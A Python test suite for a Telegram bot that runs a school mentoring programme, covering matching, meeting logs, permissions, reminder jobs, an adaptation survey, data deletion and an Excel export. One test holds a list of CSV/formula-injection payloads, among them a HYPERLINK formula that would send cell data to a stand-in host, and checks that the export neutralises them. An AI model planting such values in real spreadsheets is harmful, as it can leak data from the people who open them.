"""Mentoring end to end through the fake Bot API: a young specialist asks, staff match and confirm,
the mentor logs a meeting (a double tap is one meeting), the mentee confirms, rates and answers the
fit check, quiet pairs are nudged and flagged, the monthly adaptation check; and who may see what."""

from __future__ import annotations

import io
import logging
import re
from datetime import UTC, datetime

import openpyxl
import pytest
from sqlalchemy import update

import bot.jobs
from bot.callbacks import MentorAction, MentorCD, PairAction, PairCD
from bot.domain.mentoring import MeetingFormat
from bot.services import mentoring as mentoring_service
from storage.models import MentorMeeting, MentorPair, MentorProfile, Municipality, School, User
from tests.conftest import BotEnv
from tests.fakes import TgUser
from tests.flows import invited, last_answer, open_section, register, settle


async def the_pair(env: BotEnv, mentee_tg: int) -> MentorPair:
    async with env.repos() as repos:
        mentee = await repos.users.by_tg_id(mentee_tg)
        assert mentee is not None
        pairs = await repos.mentoring.pairs_of_mentee(mentee.id, ("proposed", "active", "paused"))
        assert pairs
        return pairs[0]


async def test_mentoring_from_request_to_reminders(env_all: BotEnv) -> None:
    env = env_all
    staff = await invited(env, 3001, "сотрудник методической службы", "Сотрудникова Елена")
    mentor = await invited(env, 3002, "наставник", "Наставникова Галина Петровна")
    other_mentor = await invited(
        env, 3003, "наставник", "Историкова Вера", subjects=("История",), school="СОШ № 1"
    )
    young = env.user(3004)
    await register(young, name="Молодова Анна Сергеевна")  # 2 years of experience, born 1998

    pair = await asked_matched_and_introduced(env, staff, mentor, young)
    meetings = await meeting_logged_and_rated(env, staff, mentor, young, pair)
    await others_cannot_reach_the_pair(env, other_mentor, young, pair)
    await quiet_pair_nudged_then_flagged(env, staff, mentor, meetings)
    await report_and_spreadsheet(staff)


async def asked_matched_and_introduced(
    env: BotEnv, staff: TgUser, mentor: TgUser, young: TgUser
) -> MentorPair:
    """The young specialist asks; staff match (with reasons) and confirm; both are told."""
    # The young specialist asks for a mentor in their subject.
    await open_section(young, "🤝 Наставничество")
    assert "положен наставник" in young.last_message.text
    await young.click("🙋 Попросить наставника")
    await young.click("Наставник по предмету «Математика»")
    assert "✅ Наставник по предмету «Математика»" in young.buttons()
    await young.click("📨 Отправить просьбу")
    assert "подбирает вам наставника" in young.last_message.text

    # Staff run the matching: the math mentor from the same school is proposed, with reasons.
    await open_section(staff, "🔗 Пары и подбор наставников")
    assert "с наставником: 0 из 1" in staff.last_message.text
    await staff.click("🔎 Подобрать пары")
    assert "Для кого подобрать пары?" in staff.last_message.text
    await staff.click("г. Галич")
    assert "Предложенные пары</b> (0)" in (staff.last_message.html or "")  # nobody young there
    await staff.click("⬅️ Назад")
    await staff.click("🔎 Подобрать пары")
    await staff.click("🌍 Весь регион")
    text = staff.last_message.text
    assert "Молодова Анна Сергеевна ← Наставникова Галина Петровна" in text
    assert "тот же предмет" in text and "та же школа" in text and "предмет, который просили" in text
    assert "тот же муниципалитет" not in text  # true of every pair: not worth saying
    await staff.click("💡 Молодова Анна Сергеевна")
    await staff.click("🔁 Другой наставник")
    assert "Историкова Вера" in staff.last_message.text  # the history teacher could take her too
    await staff.click("⬅️ Назад")
    await staff.click("⬅️ Назад")
    await staff.click("✅ Подтвердить все (1)")
    assert "Подтверждена 1 пара" in staff.last_message.text
    assert "с наставником: 1 из 1 (100%)" in staff.last_message.text

    # Both are introduced.
    await settle(env)
    assert "За вами закреплён молодой специалист" in mentor.last_message.text
    assert "Молодова Анна Сергеевна" in mentor.last_message.text
    assert "У вас есть наставник" in young.last_message.text
    assert 'href="tg://user?id=3002"' in (young.last_message.html or "")
    pair = await the_pair(env, 3004)
    assert pair.status == "active" and pair.period_start is not None
    return pair


async def meeting_logged_and_rated(
    env: BotEnv, staff: TgUser, mentor: TgUser, young: TgUser, pair: MentorPair
) -> list[MentorMeeting]:
    """A meeting logged once (a double tap too), confirmed and rated; the fit answer; both see the log."""
    # The mentor logs a meeting in five taps; a double tap on «Сохранить» records one meeting.
    await mentor.click("📝 Записать встречу")
    await mentor.click("Посещение урока")
    await mentor.send("Дисциплина на уроке в 7 классе")
    await mentor.click("45 мин")
    summary = mentor.last_message
    assert "Всё верно?" in summary.text and "Дисциплина на уроке в 7 классе" in summary.text
    save = mentor.button("✅ Сохранить")
    await mentor.click("✅ Сохранить")
    assert "Встреча записана" in mentor.last_message.text
    await mentor.click_data(save["callback_data"], message=summary)
    assert "уже записана" in last_answer(env)
    async with env.repos() as repos:
        meetings = await repos.mentoring.meetings(pair.id)
    assert len(meetings) == 1 and meetings[0].minutes == 45 and meetings[0].format == "observation"

    # The mentee confirms and rates it, then (asked only then) says the mentor does not suit her.
    await settle(env)
    confirm_request = young.last_message
    assert "записана встреча с вами" in confirm_request.text
    await young.click("✅ Да, встреча была", message=confirm_request)
    await young.click("★★★★", message=confirm_request)
    await young.send("Очень полезно, спасибо!")
    assert "оценка сохранена" in young.last_message.text
    async with env.repos() as repos:
        stored = (await repos.mentoring.meetings(pair.id))[0]
    assert stored.confirmed_at is not None and stored.rating == 4
    assert stored.rating_comment == "Очень полезно, спасибо!"
    await settle(env)
    fit_question = young.last_message
    assert "Подходит ли вам наставник" in fit_question.text
    await young.click("👎 Нет", message=fit_question)
    assert "подберут другого наставника" in env.fake.message(3004, fit_question.message_id).text
    await settle(env)
    assert "не подходит" in staff.last_message.text and "Молодова Анна Сергеевна" in staff.last_message.text
    assert (await the_pair(env, 3004)).fit_answer == "no"

    # Both see the log; the mentor can change the duration.
    await open_section(young, "🤝 Наставничество")
    await young.click("📜 Журнал встреч")
    assert "✅ ★4" in young.last_message.text and "Дисциплина на уроке" in young.last_message.text
    await open_section(mentor, "👥 Мои молодые специалисты")
    await mentor.click("🤝 Молодова Анна Сергеевна")
    await mentor.click("📜 Журнал встреч")
    await mentor.click(meetings[0].held_on.strftime("%d.%m") + " · Дисциплина на уроке в 7 классе")
    await mentor.click("60 мин")
    assert "Длительность: 60 мин" in mentor.last_message.text
    return meetings


async def others_cannot_reach_the_pair(
    env: BotEnv, other_mentor: TgUser, young: TgUser, pair: MentorPair
) -> None:
    """A stranger, another mentor and the mentee herself cannot log or read what is not theirs."""
    # Nobody else sees or logs the pair's meetings.
    stranger = env.user(3005)
    await register(stranger, name="Посторонний Иван", experience="10", birth_year="1980")
    await stranger.click_data(MentorCD(action=MentorAction.JOURNAL, p=pair.id).pack())
    assert "не ваша пара" in last_answer(env)
    await stranger.click_data(MentorCD(action=MentorAction.LOG, p=pair.id).pack())
    assert "только сотрудникам с нужной ролью" in last_answer(env)
    await other_mentor.click_data(MentorCD(action=MentorAction.LOG, p=pair.id).pack())
    assert "не ваша пара" in last_answer(env)
    await other_mentor.click_data(MentorCD(action=MentorAction.JOURNAL, p=pair.id).pack())
    assert "не ваша пара" in last_answer(env)
    await young.click_data(PairCD(action=PairAction.PAIR, p=pair.id).pack())
    assert "только сотрудникам с нужной ролью" in last_answer(env)


async def quiet_pair_nudged_then_flagged(
    env: BotEnv, staff: TgUser, mentor: TgUser, meetings: list[MentorMeeting]
) -> None:
    """After 14 quiet days the mentor is nudged once (across a restart); after 30, staff are told once."""
    # 14 quiet days: the mentor is reminded once (Moscow daytime); 30 days: staff are told once.
    meeting_day = meetings[0].held_on
    env.clock.now = datetime(meeting_day.year, meeting_day.month, meeting_day.day, 12, 0, tzinfo=UTC)
    env.clock.advance(days=13)
    mentor_before = len(mentor.messages)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    assert len(mentor.messages) == mentor_before
    env.clock.advance(days=1, hours=1)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    assert len(mentor.messages) == mentor_before + 1
    assert "записанных встреч нет уже 14 дней" in mentor.last_message.text
    await bot.jobs.mentoring_sweep()
    await settle(env)
    await env.restart()
    await bot.jobs.mentoring_sweep()
    await settle(env)
    assert len(mentor.messages) == mentor_before + 1
    staff_before = len(staff.messages)
    env.clock.advance(days=16)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    assert len(staff.messages) == staff_before + 1
    assert "Пара в зоне риска" in staff.last_message.text
    assert len(mentor.messages) == mentor_before + 1  # the same quiet stretch: no second nudge
    await staff.click("Открыть пару")
    assert "Наставник: Наставникова Галина Петровна" in staff.last_message.text


async def report_and_spreadsheet(staff: TgUser) -> None:
    """The staff's mentoring summary and its XLSX: the pair, the mentor and the meeting as logged."""
    # The report and its spreadsheet.
    await open_section(staff, "🔗 Пары и подбор наставников")
    assert "В зоне риска (нет встреч 30 дней): 1" in staff.last_message.text
    await staff.click("📥 Выгрузить в Excel")
    book = openpyxl.load_workbook(io.BytesIO(staff.last_message.document))
    assert book.sheetnames == ["Сводка", "Пары", "Наставники", "Встречи"]
    summary_rows = {row[0]: row[1] for row in book["Сводка"].iter_rows(values_only=True)}
    assert summary_rows["Молодых специалистов"] == 1 and summary_rows["С наставником"] == 1
    assert summary_rows["Средняя оценка"] == 4
    pair_rows = list(book["Пары"].iter_rows(values_only=True))
    assert pair_rows[1][:5] == (
        "Молодова Анна Сергеевна",
        "г. Кострома",
        "Гимназия № 15",
        "Наставникова Галина Петровна",
        "Гимназия № 15",
    )
    assert pair_rows[1][7] == 1 and pair_rows[1][10] == "👎 Нет" and pair_rows[1][11] == "да"
    meeting_rows = list(book["Встречи"].iter_rows(values_only=True))
    assert meeting_rows[1][1:7] == (
        "Молодова Анна Сергеевна",
        "Наставникова Галина Петровна",
        "Посещение урока",
        "Дисциплина на уроке в 7 классе",
        60,
        "подтверждена",
    )
    assert meeting_rows[1][7:9] == (4, "Очень полезно, спасибо!")


async def test_an_unpaired_young_specialist_reaches_staff_once_after_a_week(env: BotEnv) -> None:
    staff = await invited(env, 3101, "сотрудник методической службы", "Сотрудникова Елена")
    young = env.user(3102)
    await register(young, name="Одинокова Мария")
    before = len(staff.messages)
    env.clock.advance(days=6)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    assert len(staff.messages) == before
    env.clock.advance(days=2)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    await bot.jobs.mentoring_sweep()
    await settle(env)
    assert len(staff.messages) == before + 1
    assert "Одинокова Мария — молодой специалист без наставника" in staff.last_message.text


async def test_a_teacher_applies_to_mentor_and_staff_approve(env: BotEnv) -> None:
    staff = await invited(env, 3201, "сотрудник методической службы", "Сотрудникова Елена")
    teacher = env.user(3202)
    await register(teacher, name="Опытная Ольга", experience="20", birth_year="1975")
    await open_section(teacher, "🤝 Наставничество")
    await teacher.click("🙋 Стать наставником")
    await teacher.click("3")
    await teacher.send("20 лет в школе, веду математику в старших классах.")
    assert "Заявка стать наставником отправлена" in teacher.last_message.text
    await settle(env)
    assert "хочет стать наставником" in staff.last_message.text
    await staff.click("Заявки в наставники (1)")
    await staff.click("✅ Опытная Ольга")
    await settle(env)
    assert "теперь вы наставник" in teacher.last_message.text
    await open_section(teacher, "👥 Мои молодые специалисты")
    assert "0 из 3" in teacher.last_message.text
    # A second press of the same approval button changes nothing.
    await staff.click_data(PairCD(action=PairAction.APPROVE, a=1).pack())
    assert "уже решена" in last_answer(env)


async def test_the_monthly_adaptation_check_comes_once_in_local_daytime(env: BotEnv) -> None:
    young = env.user(3301)
    await register(young, name="Адаптова Ирина")
    before = len(young.messages)
    env.clock.now = datetime(2026, 12, 1, 5, 0, tzinfo=UTC)  # 08:00 in Moscow: before 10:00
    assert await bot.jobs.adaptation_checks() == 0
    env.clock.now = datetime(2026, 12, 1, 7, 30, tzinfo=UTC)  # 10:30 in Moscow
    assert await bot.jobs.adaptation_checks() == 1
    assert await bot.jobs.adaptation_checks() == 0
    # Sent before the crash: a message in flight at a crash is sent again by design (the outbox's
    # only duplicate), which is not what this test is about — the claimed check is.
    await settle(env)
    await env.restart(crash=True)
    assert await bot.jobs.adaptation_checks() == 0
    await settle(env)
    assert len(young.messages) == before + 1
    assert "вопрос 1 из 4" in young.last_message.text
    await young.click("Готово")
    assert "хотя бы один" in last_answer(env)
    await young.click("Документы и отчёты")
    await young.click("Общение с родителями")
    await young.click("Готово")
    await young.click("4")
    await young.click("Высокая, но справляюсь")
    await young.click("Пока не знаю")
    assert "Спасибо" in young.last_message.text
    async with env.repos() as repos:
        user = await repos.users.by_tg_id(3301)
        assert user is not None
        checks = await repos.mentoring.checks("2026-12", None)
    assert len(checks) == 1 and checks[0].user_id == user.id
    assert checks[0].answers == {
        "difficulty": ["paperwork", "parents"],
        "support": "4",
        "workload": "high",
        "stay": "unsure",
    }
    # Next month: a new one.
    env.clock.now = datetime(2027, 1, 1, 8, 0, tzinfo=UTC)
    assert await bot.jobs.adaptation_checks() == 1


async def test_deleting_my_data_removes_my_pairs_and_meetings(env: BotEnv) -> None:
    await invited(env, 3401, "сотрудник методической службы", "Сотрудникова Елена")
    mentor = await invited(env, 3402, "наставник", "Наставникова Галина")
    young = env.user(3403)
    await register(young, name="Удаляемая Анна")
    async with env.repos() as repos:
        run = await mentoring_service.run_matching(repos, None, env.clock().year)
        await repos.commit()
    assert len(run.proposals) == 1
    staff = env.user(3401)
    await open_section(staff, "🔗 Пары и подбор наставников")
    await staff.click("💡 Предложенные пары (1)")
    await staff.click("✅ Подтвердить все (1)")
    await settle(env)
    await mentor.click("📝 Записать встречу")
    await mentor.click("Анализ урока")
    await mentor.send("Разбор открытого урока")
    await mentor.click("30 мин")
    await mentor.click("✅ Сохранить")
    pair = await the_pair(env, 3403)
    await young.send("/profile")
    await young.click("🗑 Удалить мои данные")
    await young.click("Да, удалить всё")
    async with env.repos() as repos:
        assert await repos.mentoring.pair(pair.id) is None
        assert await repos.mentoring.meetings(pair.id) == []
    await open_section(mentor, "👥 Мои молодые специалисты")
    assert "Пока никого нет" in mentor.last_message.text


# Text that Excel would run as a formula, or that breaks the file: each must arrive as plain text.
HOSTILE = ('=HYPERLINK("http://x"&A2,"a")', "+1", "@SUM(A1)", "-2+3", "\tx", "\rx", "Ив\x01анова")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


async def test_the_mentoring_report_file_keeps_hostile_text_as_text(env: BotEnv) -> None:
    staff = await invited(env, 3501, "сотрудник методической службы", "Сотрудникова Елена")
    await invited(env, 3502, "наставник", "Наставникова Галина")
    await register(env.user(3503), name="Молодова Анна")
    now = env.clock()
    async with env.repos() as repos:
        run = await mentoring_service.run_matching(repos, None, now.year)
        pair = run.proposals[0]
        await mentoring_service.confirm(repos, pair, now, now.date())
        logged = await mentoring_service.log_meeting(
            repos,
            pair,
            token="t" * 16,
            held_on=now.date(),
            meeting_format=MeetingFormat.ANALYSIS,
            topic="Тема",
            minutes=45,
            note="Заметка",
            photo_file_id=None,
            now=now,
        )
        await mentoring_service.confirm_meeting(repos, logged.meeting, now)
        await mentoring_service.rate_meeting(repos, logged.meeting, 5, "Отзыв")
        await repos.mentoring.save_profile(pair.mentor_id, about="О себе")
        await repos.commit()
        mentor_id, mentee_id, meeting_id = pair.mentor_id, pair.mentee_id, logged.meeting.id
    for value in HOSTILE:
        async with env.repos() as repos:
            mentee = await repos.users.by_id(mentee_id)
            assert mentee is not None and mentee.school is not None and mentee.municipality is not None
            session = repos.session
            await session.execute(update(User).where(User.id == mentee_id).values(full_name=value))
            # The mentor's school was not in the directory: what they typed is shown instead.
            await session.execute(
                update(User)
                .where(User.id == mentor_id)
                .values(full_name=value, school_id=None, school_note=value)
            )
            await session.execute(
                update(School).where(School.id == mentee.school.id).values(short_name=value)
            )
            await session.execute(
                update(Municipality).where(Municipality.id == mentee.municipality.id).values(name=value)
            )
            await session.execute(
                update(MentorProfile).where(MentorProfile.user_id == mentor_id).values(about=value)
            )
            await session.execute(
                update(MentorMeeting)
                .where(MentorMeeting.id == meeting_id)
                .values(topic=value, note=value, rating_comment=value)
            )
            await repos.commit()
        await open_section(staff, "🔗 Пары и подбор наставников")
        await staff.click("📥 Выгрузить в Excel")
        book = openpyxl.load_workbook(io.BytesIO(staff.last_message.document))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (value, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not CONTROL.search(cell.value), (value, sheet.title, cell.coordinate)
        expected = value.replace("\x01", "")
        places = {
            "Пары": (0, 1, 2, 3, 4),  # mentee, municipality, schools, mentor
            "Наставники": (0, 1, 2, 5),  # name, municipality, typed school, about
            "Встречи": (1, 2, 4, 8, 9),  # names, topic, feedback, note
        }
        for title, columns in places.items():
            cells = next(book[title].iter_rows(min_row=2, max_row=2))
            for column in columns:
                cell = cells[column]
                assert cell.data_type == "s", (value, title, cell.coordinate)
                # XML keeps no lone carriage return: a reader sees it as a line break.
                assert cell.value in (expected, expected.replace("\r", "\n")), (value, title, cell.value)


async def test_the_role_log_names_an_approved_mentor_application_in_words(
    env: BotEnv, caplog: pytest.LogCaptureFixture
) -> None:
    """Approving an application records the source `application:<id>`; the log showed that raw key."""
    staff = await invited(env, 3211, "сотрудник методической службы", "Сотрудникова Елена")
    teacher = env.user(3212)
    await register(teacher, name="Опытная Ольга", experience="20", birth_year="1975")
    await open_section(teacher, "🤝 Наставничество")
    await teacher.click("🙋 Стать наставником")
    await teacher.click("2")
    await teacher.send("Веду математику двадцать лет.")
    await settle(env)
    await staff.click("Заявки в наставники (1)")
    await staff.click("✅ Опытная Ольга")
    await settle(env)
    async with env.repos() as repos:
        sources = {entry.source for entry in await repos.audit.recent()}
    assert "application:1" in sources and "test" in sources  # `invited` grants with source "test"

    caplog.set_level(logging.WARNING)
    await staff.send("/roles")
    await staff.click("Журнал изменений")
    text = staff.last_message.text
    assert "Опытная Ольга: выдана роль «наставник» (по заявке в наставники)" in text
    assert "Сотрудникова Елена: выдана роль «сотрудник методической службы» (другим способом)" in text
    assert "audit-source" not in text
    assert "no message" not in caplog.text
